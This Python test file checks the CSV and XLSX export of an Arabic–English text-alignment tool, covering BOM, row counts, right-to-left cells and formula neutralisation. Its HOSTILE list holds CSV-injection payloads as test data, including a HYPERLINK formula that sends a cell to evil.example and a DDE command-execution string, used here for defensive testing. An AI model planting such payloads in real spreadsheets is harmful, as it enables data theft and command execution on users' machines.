"""CSV and XLSX: one row per link, Arabic readable, formulas neutralised."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

from openpyxl import load_workbook

from khaddam_align.export.document import build_document
from khaddam_align.export.tabular import COLUMNS, neutralize, write_csv, write_xlsx
from khaddam_align.storage import Workspace

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "ctrl\x00\x01\x1b chars and a long line " + "word " * 8000,
]


def _doc(ws: Workspace, alignment_id: int) -> dict[str, Any]:
    with ws.session() as s:
        return build_document(s, alignment_id)


def test_neutralize() -> None:
    assert neutralize("=1+1") == "'=1+1"
    assert neutralize("+1") == "'+1"
    assert neutralize("-1") == "'-1"
    assert neutralize("@x") == "'@x"
    assert neutralize("\t=x") == "'\t=x"
    assert neutralize("a=b") == "a=b"
    assert neutralize("x\x00y\x1b") == "xy"


def test_csv_has_bom_one_row_per_link(ws: Workspace, ar_en: Any, tmp_path: Path) -> None:
    out = tmp_path / "links.csv"
    write_csv(_doc(ws, ar_en.alignment_id), out)
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(raw.decode("utf-8-sig").splitlines()))
    assert rows[0] == list(COLUMNS)
    assert len(rows) == 4
    assert rows[3][COLUMNS.index("divergence_types")] == "omission"
    assert rows[3][COLUMNS.index("verdicts")] == "confirmed"
    assert rows[3][COLUMNS.index("divergence_notes")] == "checked against the scan"
    assert "خدام" in rows[3][COLUMNS.index("a_text")]


def test_csv_only_options(ws: Workspace, ar_en: Any, tmp_path: Path) -> None:
    out = tmp_path / "d.csv"
    write_csv(_doc(ws, ar_en.alignment_id), out, only_divergences=True)
    rows = list(csv.reader(out.read_text(encoding="utf-8-sig").splitlines()))
    assert [r[0] for r in rows[1:]] == ["3"]  # rows count from 1
    write_csv(_doc(ws, ar_en.alignment_id), out, only_confirmed=True)
    rows = list(csv.reader(out.read_text(encoding="utf-8-sig").splitlines()))
    assert [r[0] for r in rows[1:]] == ["1"]


def test_hostile_csv_cells_are_neutralised(ws: Workspace, store: Any, tmp_path: Path) -> None:
    pair = store(ws, HOSTILE, HOSTILE, a_lang="en")
    out = tmp_path / "hostile.csv"
    write_csv(_doc(ws, pair.alignment_id), out)
    with out.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert len(rows) == 1 + len(HOSTILE)
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
            assert not any(ord(c) < 32 and c not in "\t\n\r" for c in cell)
    assert rows[1][COLUMNS.index("a_text")] == "'" + HOSTILE[0]


def test_xlsx_opens_with_text_cells_and_rtl_arabic(ws: Workspace, ar_en: Any, tmp_path: Path) -> None:
    out = tmp_path / "links.xlsx"
    write_xlsx(_doc(ws, ar_en.alignment_id), out)
    sheet = load_workbook(out).active
    assert sheet is not None
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == list(COLUMNS)
    assert len(rows) == 4
    a_cell = sheet.cell(row=2, column=COLUMNS.index("a_text") + 1)
    b_cell = sheet.cell(row=2, column=COLUMNS.index("b_text") + 1)
    assert "خاتمي" in a_cell.value
    assert a_cell.alignment.horizontal == "right"
    assert a_cell.alignment.readingOrder == 2
    assert b_cell.alignment.horizontal == "left"


def test_hostile_xlsx_has_no_formulas(ws: Workspace, store: Any, tmp_path: Path) -> None:
    pair = store(ws, HOSTILE, HOSTILE, a_lang="en")
    out = tmp_path / "hostile.xlsx"
    write_xlsx(_doc(ws, pair.alignment_id), out)
    sheet = load_workbook(out).active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert all(c.data_type != "f" for c in cells)
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert all(not t.startswith(("=", "+", "-", "@")) for t in texts)
    assert sheet.cell(row=2, column=COLUMNS.index("a_text") + 1).value == "'" + HOSTILE[0]
